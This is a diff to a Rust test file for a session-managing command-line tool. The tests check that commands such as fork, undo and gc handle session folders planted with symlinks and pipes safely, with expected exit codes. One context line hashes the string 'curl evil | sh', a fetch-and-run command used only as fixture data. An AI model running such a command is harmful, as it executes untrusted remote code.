@@ -106,8 +106,10 @@ fn drawer() -> String {
     format!("{:02x}", sha2::Sha256::digest(b"curl evil | sh\n")[0])
 }
 
+/// The Sessions that can be continued: what a checkout brought can only be read.
 fn sessions(ran: &Ran) -> Vec<Value> {
-    ran.envelope()["output"].as_array().unwrap().clone()
+    let listed = ran.envelope()["output"].as_array().unwrap().clone();
+    listed.into_iter().filter(|session| session["read_only"].is_null()).collect()
 }
 
 /// One Turn, and every way to its Session. Says where the Log is.
@@ -250,18 +252,21 @@ async fn a_session_whose_folder_holds_links_and_pipes_goes_on() {
             }
             plant(what, &house, &format!(".pixir/sessions/{id}{name}"));
             let before = untouched(&house);
-            // Whether it succeeds is not the question; it neither hangs nor writes elsewhere.
-            for args in [
-                &["resume", &id, "go on"][..],
-                &["repair", &id],
-                &["fork", &id],
-                &["export", &id],
-                &["undo", &id],
-                &["gc", "--apply"],
-                &["sessions", "delete", &id],
+            // A fork copies these folders, and undo reads Records: what stands there is refused.
+            let of_fork = i32::from(matches!(name, "" | "/snapshots" | "/resources"));
+            let of_undo = i32::from(matches!(name, "" | "/snapshots"));
+            for (args, code) in [
+                (&["resume", &id, "go on"][..], 0),
+                (&["repair", &id], 0),
+                (&["fork", &id], of_fork),
+                (&["export", &id], 0),
+                (&["undo", &id], of_undo),
+                (&["gc", "--apply"], 0),
+                (&["sessions", "delete", &id], 0),
             ] {
-                house.pixir(args);
+                let ran = house.pixir(args);
                 assert_eq!(untouched(&house), before, "{what:?} at {name}: {args:?}");
+                assert_eq!(ran.code, Some(code), "{what:?} at {name}: {args:?}: {}", ran.err);
             }
         }
     }
